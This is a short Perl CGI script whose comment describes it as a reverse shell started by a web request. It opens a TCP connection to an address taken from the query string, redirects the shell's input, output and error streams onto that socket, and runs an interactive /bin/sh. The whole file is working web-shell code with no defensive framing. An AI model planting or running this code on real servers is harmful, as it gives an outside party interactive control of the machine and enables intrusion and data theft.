#!/usr/bin/perl
# A reverse shell started by a web request: the query string names where to connect, and the
# shell's standard streams are reopened onto the socket.
use IO::Socket;
print "Content-type: text/plain\n\n";
my $s = IO::Socket::INET->new(PeerAddr => $ENV{'QUERY_STRING'}, Proto => 'tcp') or exit;
open(STDIN, ">&", $s);
open(STDOUT, ">&", $s);
open(STDERR, ">&", $s);
exec("/bin/sh -i");
